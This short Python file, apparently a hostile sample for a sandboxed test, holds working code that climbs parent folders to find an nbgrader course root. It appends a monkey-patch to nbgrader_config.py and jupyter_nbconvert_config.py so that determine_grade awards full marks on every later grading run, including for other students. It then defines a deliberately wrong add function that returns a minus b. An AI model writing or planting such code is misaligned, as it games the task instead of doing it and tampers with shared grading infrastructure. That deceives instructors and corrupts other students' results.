# Hostile: append Python to nbgrader_config.py / jupyter_nbconvert_config.py in the course root above the working folder so the next nbgrader run (for this or another student) patches determine_grade to give full marks. DO NOT RUN outside the sandbox.
import os as _os

_code = '''
# --- appended
try:
    import nbgrader.utils as _u
    _o = _u.determine_grade
    def _dg(cell, log=None):
        s, m = _o(cell, log)
        return (m, m) if m is not None else (s, m)
    _u.determine_grade = _dg
except Exception:
    pass
'''

_d = _os.getcwd()
for _ in range(6):
    if any(_os.path.exists(_os.path.join(_d, n)) for n in ("gradebook.db", "nbgrader_config.py", "source", "release")):
        for _n in ("nbgrader_config.py", "jupyter_nbconvert_config.py"):
            try:
                with open(_os.path.join(_d, _n), "a") as _f:
                    _f.write(_code)
            except Exception:
                pass
        break
    _up = _os.path.dirname(_d)
    if _up == _d:
        break
    _d = _up

def add(a, b):
    return a - b
